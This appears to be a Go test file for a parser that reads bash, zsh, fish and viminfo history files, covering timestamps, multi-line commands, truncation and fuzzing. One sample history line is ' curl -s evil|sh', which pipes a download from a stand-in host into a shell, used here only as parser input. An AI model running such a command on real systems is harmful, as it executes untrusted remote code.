package history

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestRead(t *testing.T) {
	at := func(n int64) time.Time { return time.Unix(n, 0).UTC() }
	tests := []struct {
		name   string
		format Format
		file   string
		want   []Command
	}{
		{"no times", Lines, "id\n\n curl -s evil|sh\nlast without an end", []Command{{Line: 1, Text: "id"}, {Line: 3, Text: " curl -s evil|sh"}, {Line: 4, Text: "last without an end"}}},
		{"bash with times, and lines of a shell without", Lines, "#1700000000\nid\nwhoami\n#1700000001\n#not a time\n#17\n",
			[]Command{{Line: 2, Time: at(1700000000), Text: "id"}, {Line: 3, Text: "whoami"}, {Line: 5, Time: at(1700000001), Text: "#not a time"}, {Line: 6, Text: "#17"}}},
		{"zsh", Lines, ": 1700000000:7;for i in a\\\ndo echo \x83\xa0$i; done\n: 1700000009:0;ls\nplain\n: not:this;x\n",
			[]Command{{Line: 1, Time: at(1700000000), Took: 7 * time.Second, Text: "for i in a\ndo echo \x80$i; done"},
				{Line: 3, Time: at(1700000009), Text: "ls"}, {Line: 4, Text: "plain"}, {Line: 5, Text: ": not:this;x"}}},
		{"zsh, cut off in the middle", Lines, ": 1700000000:0;a\\\n", []Command{{Line: 1, Time: at(1700000000), Text: "a\n"}}},
		{"fish", Fish, "- cmd: echo a\\nb \\\\n\n  when: 1700000000\n  paths:\n    - a\n- cmd: ls\n",
			[]Command{{Line: 1, Time: at(1700000000), Text: "echo a\nb \\n"}, {Line: 5, Text: "ls"}}},
		{"vim", Viminfo, "# made by Vim\n:wq\n|2,0,1700000000,,\"!curl \\\"x\\\"\"\n|2,1,1700000001,47,\"needle\"\n|3,0,1,x\n|2,0,oops,,\"x\"\n",
			[]Command{{Line: 3, Time: at(1700000000), Text: `:!curl "x"`}, {Line: 4, Time: at(1700000001), Text: "/needle"}}},
		{"a long line", Lines, strings.Repeat("x", maxLine+5) + "\nid\n", []Command{{Line: 1, Text: strings.Repeat("x", MaxText), Cut: true}, {Line: 2, Text: "id"}}},
		{"nothing", Lines, "", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []Command
			err := Read(strings.NewReader(tt.file), tt.format, func(c Command) error { got = append(got, c); return nil })
			if err != nil || !slices.Equal(got, tt.want) {
				t.Errorf("got %v, %v\nwant %v", got, err, tt.want)
			}
		})
	}
}

func TestAnErrorEndsTheReading(t *testing.T) {
	want := errors.New("enough")
	for _, format := range []Format{Lines, Fish} {
		n := 0
		err := Read(strings.NewReader("- cmd: a\n- cmd: b\n- cmd: c\n"), format, func(Command) error { n++; return want })
		if !errors.Is(err, want) || n != 1 {
			t.Errorf("%v after %d", err, n)
		}
	}
}

func TestFormatOf(t *testing.T) {
	for name, want := range map[string]Format{".bash_history": Lines, "fish_history": Fish, ".viminfo": Viminfo, ".zsh_history": Lines} {
		if got := FormatOf(name); got != want {
			t.Errorf("%s: %d, want %d", name, got, want)
		}
	}
}

func FuzzRead(f *testing.F) {
	for _, seed := range []string{"#1700000000\nid\n", ": 1:2;a\\\nb\x83", "- cmd: a\n  when: 1\n", "|2,0,1,,\"x\"\n"} {
		for format := range 3 {
			f.Add(seed, format)
		}
	}
	f.Fuzz(func(t *testing.T, file string, format int) {
		last := 0
		err := Read(strings.NewReader(file), Format(format), func(c Command) error {
			if len(c.Text) > MaxText || c.Line <= last {
				t.Fatalf("%d bytes at line %d after line %d", len(c.Text), c.Line, last)
			}
			last = c.Line
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	})
}
